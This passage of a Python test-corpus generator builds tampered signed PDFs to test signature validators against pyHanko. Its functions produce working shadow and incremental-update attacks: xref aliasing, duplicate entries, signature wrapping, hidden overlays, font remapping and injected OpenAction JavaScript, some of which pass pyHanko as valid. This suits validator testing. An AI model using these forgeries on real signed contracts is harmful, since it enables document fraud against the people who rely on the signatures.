    index = []
    i = 0
    while i < len(nums):
        j = i
        while j + 1 < len(nums) and nums[j + 1] == nums[j] + 1:
            j += 1
        index += [nums[i], j - i + 1]
        i = j + 1
    d = b"/Type /XRef /Size %d /W [1 4 2] /Index [%s]" % (
        size, b" ".join(b"%d" % x for x in index))
    if trailer:
        d += b" /Root " + ser(pdf.root_ref)
        if pdf.info_ref is not None:
            d += b" /Info " + ser(pdf.info_ref)
        if pdf.ids is not None:
            d += b" /ID " + ser(pdf.ids)
        d += b" /Prev %d" % pdf.prev_startxref
    if flate:
        rows = zlib.compress(rows)
        d += b" /Filter /FlateDecode"
    return stream_obj(d, rows)


def attack_metadata_alias(data: bytes, target: str) -> bytes:
    """Update 1: the catalog's /Metadata points at an existing signed object (page 1's content,
    the catalog itself, or page 1), as if it were the XMP stream (an update pyHanko and catool
    allow after any signature). Update 2: that object changed (page 1's content replaced,
    /OpenAction JavaScript added to the catalog, page 1 pointed at the shadow content)."""
    pdf = Pdf(data)
    root = ref_num(pdf.root_ref)
    num = {"content": pdf.contents_num(0), "catalog": root, "page": pdf.page_num(0)}[target]
    u = Update(pdf)
    u.redefine(root, dict_with(pdf.root, {"/Metadata": b"%d 0 R" % num}))
    pdf2 = Pdf(u.bytes())
    u2 = Update(pdf2)
    if target == "content":
        u2.redefine(num, stream_obj(b"", page_text(PAGE1_SHADOW_LINES)))
    elif target == "catalog":
        u2.redefine(num, dict_with(pdf2.root, {"/OpenAction": OPEN_ACTION_JS}))
    else:
        u2.redefine(num, page1_on_shadow(pdf2))
    return u2.bytes()


def info_alias_target(pdf: Pdf, target: str) -> int:
    if target == "font":
        return font_num(pdf)
    if target == "resources":
        return ref_num(pdf.page(0).raw_get("/Resources"))
    if target == "overlay_ap":
        return overlay_ap_num(pdf)
    for a in pdf.page(1).raw_get("/Annots"):  # "annotation": the page-2 white overlay itself
        if a.get_object().get("/Subtype") == "/Square":
            return ref_num(a)
    raise SystemExit("no /Square overlay on page 2")


def attack_info_alias(data: bytes, target: str) -> bytes:
    """Update 1: the trailer's /Info points at a signed object of page 1 or 2 (a document
    information change, allowed after any signature), plus one dummy object. Update 2 (same
    /Info): that object redefined: the font draws '1' as '9' / page 1's resources get an
    /XObject entry / the overlay's appearance is emptied / the overlay is hidden (/F 2) and
    shrunk, so the clause under it shows."""
    pdf = Pdf(data)
    num = info_alias_target(pdf, target)
    alias = b"%d 0 R" % num
    u = Update(pdf)
    u.info = alias
    u.new(b"<< /Dummy true >>")
    pdf2 = Pdf(u.bytes())
    u2 = Update(pdf2)
    u2.info = alias
    old = pdf2.obj(num)
    if target == "font":
        body = dict_with(old, {"/Encoding": FONT_DIFFERENCES})
    elif target == "resources":
        body = dict_with(old, {"/XObject": b"<< /X %d 0 R >>" % SHADOW_CONTENT_OBJ})
    elif target == "overlay_ap":
        body = EMPTY_FORM
    else:
        body = dict_with(old, {"/Rect": b"[0 0 1 1]", "/F": b"2"})
    u2.redefine(num, body)
    return u2.bytes()


def attack_tail(data: bytes, ending: str) -> bytes:
    """Page 1's content replaced ('Contract total: 900000 CNY' only) in an update whose end is
    damaged: `no_eof` stops after `startxref N` (no %%EOF line), `eo` ends with `%%EO`,
    `eof_junk` has two bytes (NUL, 'x') after its %%EOF."""
    pdf = Pdf(data)
    u = Update(pdf)
    u.redefine(pdf.contents_num(0), stream_obj(b"", page_text(PAGE1_SHADOW_LINES[:1])))
    full = u.bytes()
    assert full.endswith(b"%%EOF\n")
    return {
        "no_eof": full[:-6],
        "eo": full[:-3] + b"\n",
        "eof_junk": full[:-6] + b"%%EOF\x00x",
    }[ending]


def attack_xref_alias_entry(data: bytes) -> bytes:
    """The update redefines page 1 (/Contents -> the shadow content) and lists a NEW object
    number whose xref offset is the signed `4 0 obj` text: a reader that keys objects by the
    header it finds at an offset loads the old page 1 last."""
    pdf = Pdf(data)
    p1 = pdf.page_num(0)
    old_off = signed_offset(pdf, p1)
    out = bytearray(data)
    new_off = len(out)
    out += b"%d 0 obj\n" % p1 + page1_on_shadow(pdf) + b"\nendobj\n"
    alias = pdf.size + 5
    xref_at = len(out)
    out += xref_section({p1: (new_off, 0, "n"), alias: (old_off, 0, "n")})
    out += raw_tail(pdf, alias + 1, xref_at)
    return bytes(out)


def attack_xref_dup_entry(data: bytes, new_first: bool) -> bytes:
    """One xref section lists page 1 twice (two one-entry subsections): at a new page-1 text
    (/Contents -> the shadow content) and at its signed offset, in either order. Readers differ
    on which entry wins."""
    pdf = Pdf(data)
    p1 = pdf.page_num(0)
    old_off = signed_offset(pdf, p1)
    out = bytearray(data)
    new_off = len(out)
    out += b"%d 0 obj\n" % p1 + page1_on_shadow(pdf) + b"\nendobj\n"
    xref_at = len(out)
    first, second = (new_off, old_off) if new_first else (old_off, new_off)
    entry = lambda off: b"%010d 00000 n\r\n" % off  # noqa: E731
    out += b"xref\n%d 1\n" % p1 + entry(first) + b"%d 1\n" % p1 + entry(second)
    out += raw_tail(pdf, pdf.size, xref_at)
    return bytes(out)


def attack_xref_stream(data: bytes, what: str) -> bytes:
    """An update with a cross-reference stream: `content` page 1's content replaced (a plain
    object); `objstm_page` page 1 (/Contents -> shadow), `objstm_font` font 6 ('1' drawn as '9'),
    `objstm_form_fill` field amount /V (250) (legitimate), each inside a new object stream."""
    pdf = Pdf(data)
    if what == "content":
        return xref_stream_update(
            data, {pdf.contents_num(0): stream_obj(b"", page_text(PAGE1_SHADOW_LINES))})
    if what == "objstm_page":
        return xref_stream_update(data, {}, [(pdf.page_num(0), page1_on_shadow(pdf))])
    if what == "objstm_font":
        num = font_num(pdf)
        return xref_stream_update(
            data, {}, [(num, dict_with(pdf.obj(num), {"/Encoding": FONT_DIFFERENCES}))])
    num, fld = pdf.field("amount")
    return xref_stream_update(data, {}, [(num, dict_with(fld, {"/V": pdf_string("250")}))])


def attack_objstm_alias(data: bytes) -> bytes:
    """One new object stream holds two objects both numbered as page 1: slot 0 the new page
    (/Contents -> shadow), slot 1 a byte copy of the signed page. The xref stream maps page 1
    to slot 0 and a new dummy number to slot 1."""
    pdf = Pdf(data)
    p1 = pdf.page_num(0)
    old_off = signed_offset(pdf, p1)
    old_body = data[old_off : data.index(b"endobj", old_off)].split(b"obj", 1)[1].strip()
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    stm, dummy, xnum = pdf.size, pdf.size + 1, pdf.size + 2
    header = payload = b""
    for num, body in ((p1, page1_on_shadow(pdf)), (p1, old_body)):
        header += b"%d %d " % (num, len(payload))
        payload += body + b"\n"
    stm_off = len(out)
    out += b"%d 0 obj\n" % stm + stream_obj(
        b"/Type /ObjStm /N 2 /First %d" % len(header), header + payload) + b"\nendobj\n"
    xref_at = len(out)
    entries = {p1: (2, stm, 0), stm: (1, stm_off, 0), dummy: (2, stm, 1), xnum: (1, xref_at, 0)}
    out += b"%d 0 obj\n" % xnum + xref_stream_obj(pdf, entries, xnum + 1, flate=False)
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def attack_hybrid(data: bytes, table: str) -> bytes:
    """A hybrid-reference update: a classic table + trailer /XRefStm pointing at a cross-
    reference stream that lists page 1 at a new text (/Contents -> shadow). The table lists a
    dummy object and, for `old`, page 1 at its SIGNED offset (the table wins: every reader
    tried shows the signed page), for `free`, page 1 as free (readers fall through to the
    stream), for `stream_only`, nothing more."""
    pdf = Pdf(data)
    p1 = pdf.page_num(0)
    old_off = signed_offset(pdf, p1)
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    new_off = len(out)
    out += b"%d 0 obj\n" % p1 + page1_on_shadow(pdf) + b"\nendobj\n"
    dummy, xnum = pdf.size, pdf.size + 1
    dummy_off = len(out)
    out += b"%d 0 obj\n<< /Dummy true >>\nendobj\n" % dummy
    stm_off = len(out)
    entries = {p1: (1, new_off, 0), xnum: (1, stm_off, 0)}
    out += b"%d 0 obj\n" % xnum + xref_stream_obj(pdf, entries, xnum + 1, trailer=False,
                                                   flate=False) + b"\nendobj\n"
    tbl = {dummy: (dummy_off, 0, "n")}
    if table == "old":
        tbl[p1] = (old_off, 0, "n")
    elif table == "free":
        tbl[p1] = (0, 1, "f")
        tbl[0] = (0, 65535, "f")
    xref_at = len(out)
    out += xref_section(tbl) + raw_tail(pdf, xnum + 1, xref_at, extra=b"/XRefStm %d" % stm_off)
    return bytes(out)


def attack_structure(data: bytes, kind: str) -> bytes:
    """Structural oddities in the update after the signature (page 1 redefined with /Contents
    -> shadow, unless said otherwise):
    `prev_mid`    the update's /Prev points 5 bytes into the signed revision's xref table;
    `gen1`        page 1 redefined as `N 1 obj`, xref generation 1 (the page tree still says
                  `N 0 R`);
    `gen1_content` page 1's content redefined as generation 1 and page 1 pointed at `C 1 R`;
    `badxref`     the xref entry is 19 bytes with no end-of-line (and the trailer has no
                  /Info, /ID);
    `eof_in_stream` the new page-1 content stream carries `startxref <signed xref> %%EOF`;
    `obj_after_trailer` page 1's new text comes after the trailer (listed in the xref)."""
    pdf = Pdf(data)
    p1, c = pdf.page_num(0), pdf.contents_num(0)
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    new_page = page1_on_shadow(pdf)

    def finish(tbl, xref_at, prev=None):
        out.extend(xref_section(tbl) + raw_tail(pdf, max(pdf.size, max(tbl) + 1), xref_at, prev))
        return bytes(out)

    if kind in ("prev_mid", "gen1", "badxref"):
        gen = 1 if kind == "gen1" else 0
        off = len(out)
        out += b"%d %d obj\n" % (p1, gen) + new_page + b"\nendobj\n"
        x = len(out)
        if kind == "badxref":
            out += b"xref\n%d 1\n%010d 00000 n" % (p1, off)
            out += b"\ntrailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
                pdf.size, ser(pdf.root_ref), pdf.prev_startxref, x)
            return bytes(out)
        prev = pdf.prev_startxref + 5 if kind == "prev_mid" else None
        return finish({p1: (off, gen, "n")}, x, prev)
    if kind == "gen1_content":
        off = len(out)
        out += b"%d 1 obj\n" % c + stream_obj(b"", page_text(PAGE1_SHADOW_LINES)) + b"\nendobj\n"
        off2 = len(out)
        out += b"%d 0 obj\n" % p1 + dict_with(pdf.page(0), {"/Contents": b"%d 1 R" % c})
        out += b"\nendobj\n"
        return finish({c: (off, 1, "n"), p1: (off2, 0, "n")}, len(out))
    if kind == "eof_in_stream":
        fake = b"\nstartxref\n%d\n%%%%EOF\n" % pdf.prev_startxref
        off = len(out)
        out += b"%d 0 obj\n" % c + stream_obj(b"", page_text(PAGE1_SHADOW_LINES) + b"\n%" + fake)
        out += b"\nendobj\n"
        return finish({c: (off, 0, "n")}, len(out))
    if kind == "obj_after_trailer":
        x = len(out)
        body = b"%d 0 obj\n" % p1 + new_page + b"\nendobj\n"
        tail = raw_tail(pdf, pdf.size, x)
        trailer = tail[: tail.index(b"startxref")]
        obj_off = x + len(xref_section({p1: (0, 0, "n")})) + len(trailer)
        out += xref_section({p1: (obj_off, 0, "n")}) + trailer + body
        out += b"startxref\n%d\n%%%%EOF\n" % x
        return bytes(out)
    raise ValueError(kind)


def add_field(u: Update, pdf: Pdf, field_num: int) -> None:
    """Appends a field to /Fields (redefining the array or the AcroForm dictionary)."""
    af = pdf.root.raw_get("/AcroForm")
    afd = af.get_object()
    fields = afd.raw_get("/Fields")
    if hasattr(fields, "idnum"):
        u.redefine(fields.idnum, array_with(fields.get_object(), [b"%d 0 R" % field_num]))
    else:
        u.redefine(ref_num(af), dict_with(afd, {"/Fields": array_with(fields, [b"%d 0 R" % field_num])}))


def add_annot(u: Update, pdf: Pdf, page_index: int, annot_num: int) -> None:
    page = pdf.page(page_index)
    annots = page.raw_get("/Annots")
    if hasattr(annots, "idnum"):
        u.redefine(annots.idnum, array_with(annots.get_object(), [b"%d 0 R" % annot_num]))
    else:
        u.redefine(pdf.page_num(page_index),
                   dict_with(page, {"/Annots": array_with(annots, [b"%d 0 R" % annot_num])}))


def attack_orphan_widget(data: bytes) -> bytes:
    """A new, empty signature field F (/Rect [0 0 0 0], no /Kids, no /V) in /Fields, and a new
    /Widget W with /Parent F (not in F's /Kids) on page 1: a big /Rect and an appearance that
    paints a white box and 'Contract total: 900000 CNY' over the signed text."""
    pdf = Pdf(data)
    u = Update(pdf)
    rect = (60, 740, 540, 800)
    w, h = rect[2] - rect[0], rect[3] - rect[1]
    ap = u.new(stream_obj(
        b"/Type /XObject /Subtype /Form /BBox [0 0 %d %d] /Resources << /Font << /F1 %d 0 R >> >>"
        % (w, h, font_num(pdf)),
        b"q 1 g 0 0 %d %d re f Q BT /F1 24 Tf 0 g 12 20 Td (Contract total: 900000 CNY) Tj ET"
        % (w, h)))
    f = u.new(b"<< /FT /Sig /T (Sig2) /Rect [0 0 0 0] >>")
    widget = u.new(b"<< /Type /Annot /Subtype /Widget /Parent %d 0 R /Rect [%d %d %d %d] /F 4"
                   b" /P %d 0 R /AP << /N %d 0 R >> >>" % (f, *rect, pdf.page_num(0), ap))
    add_field(u, pdf, f)
    add_annot(u, pdf, 0, widget)
    return u.bytes()


def attack_kid_hijack(data: bytes) -> bytes:
    """Update 1: a new signature field Sig2 (no /V) whose /Kids is [the signed white overlay
    annotation of page 2] (it has no /T), so the overlay looks like the new field's widget.
    Update 2: the overlay redefined hidden (/F 2) with an empty appearance: the clause under it
    shows."""
    pdf = Pdf(data)
    overlay = info_alias_target(pdf, "annotation")
    u = Update(pdf)
    f = u.new(b"<< /FT /Sig /T (Sig2) /Kids [%d 0 R] >>" % overlay)
    add_field(u, pdf, f)
    pdf2 = Pdf(u.bytes())
    u2 = Update(pdf2)
    empty = u2.new(EMPTY_FORM)
    u2.redefine(overlay, dict_with(pdf2.obj(overlay), {"/F": b"2", "/AP": b"<< /N %d 0 R >>" % empty}))
    return u2.bytes()


def pypdf_incremental(data: bytes, what: str) -> bytes:
    """Legitimate updates written by pypdf's incremental writer: `fill` field amount = 250
    (no appearance regeneration), `metadata` a new /Title in the document information."""
    import pypdf

    w = pypdf.PdfWriter(io.BytesIO(data), incremental=True)
    if what == "fill":
        w.update_page_form_field_values(w.pages[0], {"amount": "250"}, auto_regenerate=False)
    else:
        w.add_metadata({"/Title": "new title"})
    b = io.BytesIO()
    w.write(b)
    return b.getvalue()


# ---------------------------------------------------------------------------------------
# The corpus
# ---------------------------------------------------------------------------------------

PYHANKO = "pyhanko"  # "expect" placeholder: take pyHanko's verdict and say so in the note


@dataclass
class Case:
    file: str
    attack: str
    expect: str  # "valid" | "invalid" | PYHANKO
    names: str
    note: str
    data: bytes
    judged: list[str] | None = None  # fields `expect` is about (default: the first one)
    # pyHanko says valid although the document changed (expect "invalid"): what the red team
    # found; cmd_attacks records what pyHanko actually says and reports any difference.
    fooled: bool = False
    # why pyHanko's verdict differs from `expect` for another reason than being fooled
    differs: str | None = None
    # why pyHanko's CLI (strict reader) refuses the file whatever its API says
    cli_refuses: str | None = None
    pyhanko: list[dict] = field(default_factory=list)
    pyhanko_verdict: str | None = None
    pyhanko_fooled: bool = False
    cli_exit: int | None = None


def build_cases(args) -> list[Case]:
    from pyhanko.sign.fields import MDPPerm

    a = Path(args.approval).read_bytes()
    c = Path(args.certified).read_bytes()
    key, cert, extra, password = load_p12(Path(args.p12), Path(args.p12_password_file))
    base = base_pdf()
    sig_a = Pdf(a).sig_fields()[0][1].get("/T")
    sig_c = Pdf(c).sig_fields()[0][1].get("/T")

    cases = [
        Case("approval.pdf", "approval", "valid", "",
             "control: catool approval signature (A.pdf as given), unchanged", a, [sig_a]),
        Case("certified.pdf", "certified",
             "valid", "", "control: catool certification signature, DocMDP P=2 (C.pdf as given), unchanged", c, [sig_c]),
        Case("page_content_replaced_approval.pdf", "page_content_replaced_approval", "invalid",
             "page 1", "page 1's content stream object redefined (same number): "
             "'Contract total: 900000 CNY'", attack_replace_page1_content(a), [sig_a]),
        Case("page_contents_swapped_approval.pdf", "page_contents_swapped_approval", "invalid",
             "page 1", "new content stream; page 1's page dictionary redefined with /Contents "
             "pointing at it", attack_swap_page1_contents(a), [sig_a]),
        Case("page_content_replaced_certified.pdf", "page_content_replaced_certified", "invalid",
             "page 1", "as page_content_replaced_approval, on the certified file (P=2)",
             attack_replace_page1_content(c), [sig_c]),
        Case("short_coverage.pdf", "short_coverage", "invalid", "revision",
             "signature made here on the base (cryptography PKCS7SignatureBuilder, "
             "adbe.pkcs7.detached, SHA-256, genuine CMS); its /ByteRange stops 200 bytes before "
             "its revision's %%EOF line: the unsigned tail is most of a rewritten Info "
             "dictionary (placed after the trailer, listed in the signed xref) and the "
             "startxref line", attack_short_coverage(base, key, cert, extra), ["ShortCoverage"]),
        Case("shadow_hide.pdf", "shadow_hide", "invalid", "page 2",
             "the page-2 /Square overlay's appearance stream (existing object) redefined as an "
             "empty stream: the clause 'Late fee: 900000 CNY per day of delay.' under it shows",
             attack_shadow_hide(a), [sig_a]),
        Case("shadow_replace.pdf", "shadow_replace", "invalid", "font",
             "the Helvetica font object (existing, shared by both pages and the amount widget) "
             "redefined with /Differences [49 /nine]: every '1' is drawn as '9' "
             "('Contract total: 900 CNY'); no content stream changes", attack_shadow_replace(a),
             [sig_a]),
        Case("shadow_hide_and_replace.pdf", "shadow_hide_and_replace", "invalid", "page 1",
             f"page 1's page dictionary redefined: /Contents {SHADOW_CONTENT_OBJ} 0 R, the "
             "prepared content stream the signed base carried unreferenced",
             attack_shadow_hide_and_replace(a), [sig_a]),
        Case("xref_redefines_signed_object.pdf", "xref_redefines_signed_object", "invalid",
             "page 1", "page 1's own indirect /Resources dictionary (signed object 7) redefined: "
             "/F1 is now a new Courier font object drawing '1' as '9'",
             attack_redefine_resources(a), [sig_a]),
        Case("xref_frees_signed_object.pdf", "xref_frees_signed_object", "invalid", "page 1",
             "the update has no objects: its xref marks page 1's content stream object free "
             "('f', generation 1; entry 0 heads the free list): page 1 is blank for qpdf and "
             "pyHanko (poppler, seeing a reference to a free object, rebuilds the xref by "
             "scanning and shows the old text)",
             attack_free_page1_content(a), [sig_a]),
        Case("signature_wrapping.pdf", "signature_wrapping", "invalid", "",
             "the signature field redefined: /V points at a NEW signature dictionary carrying "
             "the original /ByteRange and /Contents verbatim (the old CMS still matches the old "
             "ranges, which cover only revision 1+2, not the new dictionary)",
             attack_signature_wrapping(a), [sig_a]),
        Case("catalog_openaction_js.pdf", "catalog_openaction_js", "invalid", "catalog",
             "catalog redefined with /OpenAction << /S /JavaScript /JS (app.alert(...)) >>",
             attack_catalog_js(a), [sig_a]),
        Case("annotation_added_approval.pdf", "annotation_added_approval", PYHANKO, "annotation",
             "a new /FreeText annotation ('Amended: 900000 CNY', with appearance) on page 1; "
             "page 1 redefined with the longer /Annots", attack_add_annotation(a), [sig_a]),
        Case("form_fill_approval.pdf", "form_fill_approval", PYHANKO, "amount",
             "field amount: /V (900000) and a new appearance stream (field object redefined)",
             attack_form_fill(a), [sig_a]),
    ]

    certified = {}
    for p, perm in ((1, MDPPerm.NO_CHANGES), (2, MDPPerm.FILL_FORMS), (3, MDPPerm.ANNOTATE)):
        certified[p] = pyhanko_sign(base, Path(args.p12), password, "Certification",
                                    certify=True, perm=perm)
        cases.append(Case(f"certified_pyhanko_p{p}.pdf", f"certified_pyhanko_p{p}",
                          "valid", "", f"the base certified by pyHanko, DocMDP P={p}",
                          certified[p], ["Certification"]))
    cases += [
        Case("form_fill_p1.pdf", "form_fill_p1", "invalid", "amount",
             "field amount filled (as form_fill_approval) on the P=1 certified file",
             attack_form_fill(certified[1]), ["Certification"]),
        Case("form_fill_p2.pdf", "form_fill_p2", "valid", "",
             "field amount filled (as form_fill_approval) on the P=2 certified file",
             attack_form_fill(certified[2]), ["Certification"]),
        Case("annotation_p2.pdf", "annotation_p2", "invalid", "annotation",
             "FreeText annotation added (as annotation_added_approval) on the P=2 certified file",
             attack_add_annotation(certified[2]), ["Certification"]),
        Case("annotation_p3.pdf", "annotation_p3", "invalid", "annotation",
             "FreeText annotation added (as annotation_added_approval) on the P=3 certified file: "
             "ISO 32000 lets P=3 allow annotations, but pyHanko (and catool with it) accepts no "
             "annotation added after a signature, since an annotation can cover signed content",
             attack_add_annotation(certified[3]), ["Certification"]),
        Case("second_signature_p1.pdf", "second_signature_p1", PYHANKO, "",
             "a second (approval) signature by pyHanko in new field Signature2 on the P=1 file "
             "(pyHanko refuses to do this by itself: its P=1 check was switched off); expect is "
             "for the certification signature",
             pyhanko_sign(certified[1], Path(args.p12), password, "Signature2",
                          ignore_docmdp=True), ["Certification"]),
        Case("second_signature_p2.pdf", "second_signature_p2", "valid", "",
             "a second (approval) signature by pyHanko in new field Signature2 on the P=2 file; "
             "expect is for both signatures",
             pyhanko_sign(certified[2], Path(args.p12), password, "Signature2"),
             ["Certification", "Signature2"]),
        Case("second_signature_approval.pdf", "second_signature_approval", "valid", "",
             "a second approval signature by pyHanko (field Signature2) on A.pdf; expect is for "
             "both signatures",
             pyhanko_sign(a, Path(args.p12), password, "Signature2"), [sig_a, "Signature2"]),
    ]
    cases += red_team_cases(a, c, sig_a, sig_c, certified, args)
    cases += rt2_cases(a, c, sig_a, sig_c, certified, args)
    if args.prepared_dir:
        cases += prepared_cases(Path(args.prepared_dir), args, password)
    return cases


HYBRID_CLI = ("pyHanko's CLI reads with its strict reader, which refuses every hybrid-reference "
              "file ('Settings do not permit validation of signatures in hybrid-reference "
              "files'); pyhanko_verdict is its API's (non-strict reader) verdict")


def red_team_cases(a: bytes, c: bytes, sig_a: str, sig_c: str, certified: dict[int, bytes],
                   args) -> list[Case]:
    """The second round: each attack on A.pdf (approval) and on C.pdf (certification, P=2),
    a few on pyHanko's P=1 / P=2 certifications, and the inherited-resources base."""
    out: list[Case] = []

    def both(attack, expect, names, note, fn, **kw):
        for tag, data, sig in (("approval", a, sig_a), ("certified", c, sig_c)):
            out.append(Case(f"{attack}_{tag}.pdf", f"{attack}_{tag}", expect, names, note,
                            fn(data), [sig], **kw))

    meta = ("update 1 points the catalog's /Metadata at {what} (an update allowed after any "
            "signature, for the XMP stream); update 2 {change}: whatever role /Metadata lends "
            "that object, the change must still be judged as a change of {judged}")
    both("metadata_alias_content", "invalid", "page 1",
         meta.format(what="page 1's content stream", change="replaces that stream with "
                     "'Contract total: 900000 CNY'", judged="page 1's content"),
         lambda d: attack_metadata_alias(d, "content"))
    both("metadata_alias_catalog", "invalid", "catalog (/openaction)",
         meta.format(what="the catalog itself", change="adds /OpenAction JavaScript to the "
                     "catalog", judged="the catalog"),
         lambda d: attack_metadata_alias(d, "catalog"))
    both("metadata_alias_page", "invalid", "page 1",
         meta.format(what="page 1's page dictionary", change="points page 1's /Contents at the "
                     "prepared shadow content (object 14)", judged="page 1"),
         lambda d: attack_metadata_alias(d, "page"))

    info = ("update 1 points the trailer's /Info at {what} (a document-information change, "
            "allowed after any signature) and adds a dummy object; update 2 (same /Info) "
            "redefines it: {change}")
    both("info_alias_font", "invalid", "a resource (font, image or form) of page 1",
         info.format(what="the shared Helvetica font (object 6)",
                     change="/Differences [49 /nine]: every '1' is drawn as '9'"),
         lambda d: attack_info_alias(d, "font"))
    both("info_alias_resources", "invalid", "a resource (font, image or form) of page 1",
         info.format(what="page 1's indirect /Resources dictionary (object 7)",
                     change="an /XObject entry naming the shadow content is added (nothing "
                     "visible: the smuggled role is the point)"),
         lambda d: attack_info_alias(d, "resources"))
    both("info_alias_overlay_ap", "invalid", "the appearance of an annotation on page 2",
         info.format(what="the page-2 white overlay's appearance stream (object 13)",
                     change="emptied: the clause 'Late fee: 900000 CNY per day of delay.' shows"),
         lambda d: attack_info_alias(d, "overlay_ap"))
    both("info_alias_annotation", "invalid", "replaces an annotation on page 2",
         info.format(what="the page-2 white overlay annotation (object 12)",
                     change="/F 2 (hidden) and /Rect [0 0 1 1]: the clause under it shows"),
         lambda d: attack_info_alias(d, "annotation"))

    tail = ("an update replacing page 1's content ('Contract total: 900000 CNY') appended after "
            "the signed revision's %%EOF, {how}")
    both("tail_no_eof", "invalid", "not a complete revision",
         tail.format(how="ending with `startxref N` and no %%EOF line: poppler applies it and "
                     "shows the new total; pyHanko (like pypdf and qpdf) ignores it and calls "
                     "the signature valid (modification level NONE)"),
         lambda d: attack_tail(d, "no_eof"), fooled=True)
    both("tail_truncated_eof", "invalid", "not a complete revision",
         tail.format(how="ending with `%%EO`: poppler and pypdf apply it and show the new "
                     "total; pyHanko ignores it and calls the signature valid (modification "
                     "level NONE)"),
         lambda d: attack_tail(d, "eo"), fooled=True)
    both("tail_eof_junk", "invalid", "page 1",
         tail.format(how="complete, but followed by two bytes (NUL, 'x') after its %%EOF"),
         lambda d: attack_tail(d, "eof_junk"))

    both("xref_alias_entry", "invalid", "ambiguous cross-reference",
         "the update redefines page 1 (/Contents -> the shadow content) and its xref also lists "
         "a new object number at the offset of the SIGNED page-1 text: a reader that keys "
         "objects by the header at the offset gets the old page back, viewers show the new one",
         attack_xref_alias_entry)
    both("xref_dup_entry_new_first", "invalid", "ambiguous cross-reference",
         "one xref section lists page 1 twice: first at a new page-1 text (/Contents -> the "
         "shadow content), then at its signed offset. Viewers (poppler, pypdf, qpdf: first "
         "entry wins) show '900000'; pyHanko calls the update an LTA update: valid",
         lambda d: attack_xref_dup_entry(d, True), fooled=True)
    both("xref_dup_entry_old_first", "invalid", "ambiguous cross-reference",
         "as xref_dup_entry_new_first with the entries in the other order: viewers (first "
         "entry) show the signed page, readers taking the last entry (lopdf, hence catool's "
         "own reading) the new one",
         lambda d: attack_xref_dup_entry(d, False))

    both("xref_stream_content", "invalid", "page 1",
         "page 1's content replaced, in an update whose cross-reference section is a stream",
         lambda d: attack_xref_stream(d, "content"))
    both("objstm_page", "invalid", "page 1",
         "page 1 redefined (/Contents -> the shadow content) inside a new object stream "
         "(xref stream update)", lambda d: attack_xref_stream(d, "objstm_page"))
    both("objstm_font", "invalid", "a resource (font, image or form) of page 1",
         "the shared font redefined ('1' drawn as '9') inside a new object stream",
         lambda d: attack_xref_stream(d, "objstm_font"))
    both("objstm_form_fill", "valid", "",
         "legitimate: field amount filled (/V (250), field dictionary redefined) inside a new "
         "object stream of an xref-stream update", lambda d: attack_xref_stream(d, "objstm_form_fill"))
    both("objstm_alias", "invalid", "ambiguous cross-reference",
         "one new object stream holds page 1 twice: slot 0 the new page (/Contents -> shadow), "
         "slot 1 a copy of the signed page; the xref stream maps page 1 to slot 0 and a dummy "
         "number to slot 1", attack_objstm_alias)

    both("hybrid_table_old", "invalid", "without listing it",
         "hybrid-reference update: the /XRefStm stream lists page 1 at a new text (/Contents -> "
         "shadow), the classic table lists it at its SIGNED offset (and one dummy object). "
         "ISO 32000 has the table searched first: qpdf, pypdf, poppler and pyHanko's API read the "
         "signed page; but the update carries a second page 1 that a reader taking the stream's "
         "entry, or rebuilding the table, would show: catool refuses such a two-view update "
         "(pyHanko's API does not: counted as fooled). " + HYBRID_CLI,
         lambda d: attack_hybrid(d, "old"), cli_refuses=HYBRID_CLI, fooled=True)
    both("hybrid_table_free", "invalid", "page 1",
         "hybrid-reference update: the table marks page 1 free, the /XRefStm stream lists it at "
         "a new text (/Contents -> shadow): readers fall through to the stream and show "
         "'900000'. " + HYBRID_CLI,
         lambda d: attack_hybrid(d, "free"), cli_refuses=HYBRID_CLI)
    both("hybrid_stream_only", "invalid", "page 1",
         "hybrid-reference update: page 1 (new text, /Contents -> shadow) only in the /XRefStm "
         "stream, the table lists a dummy object. " + HYBRID_CLI,
         lambda d: attack_hybrid(d, "stream_only"), cli_refuses=HYBRID_CLI)

    both("prev_into_signed_xref", "invalid", "no startxref/%%eof ending",
         "page 1 redefined (/Contents -> shadow) in an update whose /Prev points 5 bytes into "
         "the signed revision's xref table (pyHanko cannot open the file; poppler, pypdf and "
         "qpdf recover and show '900000')", lambda d: attack_structure(d, "prev_mid"))
    both("page_generation_1", "invalid", "page 1",
         "page 1 redefined as generation 1 (`4 1 obj`, xref generation 1, /Contents -> shadow) "
         "while the page tree still says `4 0 R`: readers disagree (poppler drops page 1, "
         "pypdf and qpdf show the signed page)", lambda d: attack_structure(d, "gen1"))
    both("content_generation_1", "invalid", "page 1",
         "page 1's content redefined as generation 1 ('900000') and page 1 pointed at `8 1 R`",
         lambda d: attack_structure(d, "gen1_content"))
    both("xref_malformed", "invalid", "page 1",
         "page 1 redefined (/Contents -> shadow) in an update whose xref entry is 19 bytes "
         "with no end-of-line (trailer without /Info, /ID)",
         lambda d: attack_structure(d, "badxref"))
    both("eof_inside_stream", "invalid", "page 1",
         "page 1's content replaced ('900000') by a stream that carries `startxref <the signed "
         "xref> %%EOF` lines, to make the update look like part of the signed revision",
         lambda d: attack_structure(d, "eof_in_stream"))
    both("object_after_trailer", "invalid", "page 1",
         "page 1 redefined (/Contents -> shadow) with its text placed after the update's "
         "trailer (listed in its xref)", lambda d: attack_structure(d, "obj_after_trailer"))

    orphan = ("a new empty signature field Sig2 (/Rect [0 0 0 0], no /Kids) and a new /Widget "
              "with /Parent Sig2 but not in its /Kids, on page 1: a big /Rect and an appearance "
              "painting a white box and 'Contract total: 900000 CNY' over the signed text")
    both("orphan_widget", "invalid", "form widget", orphan, attack_orphan_widget)
    for p in (1, 2):
        out.append(Case(f"orphan_widget_p{p}.pdf", f"orphan_widget_p{p}", "invalid",
                        "form widget", orphan + f" (on the base certified by pyHanko, P={p})",
                        attack_orphan_widget(certified[p]), ["Certification"]))
    both("kid_hijack", "invalid", "replaces an annotation on page 2",
         "update 1: a new signature field Sig2 (no /V) whose /Kids is the signed page-2 white "
         "overlay annotation, so the overlay passes for the new field's widget; update 2 hides "
         "the overlay (/F 2, empty appearance): the clause under it shows",
         attack_kid_hijack)
    both("pypdf_form_fill", "valid", "",
         "legitimate: pypdf 7's incremental writer fills field amount = 250 "
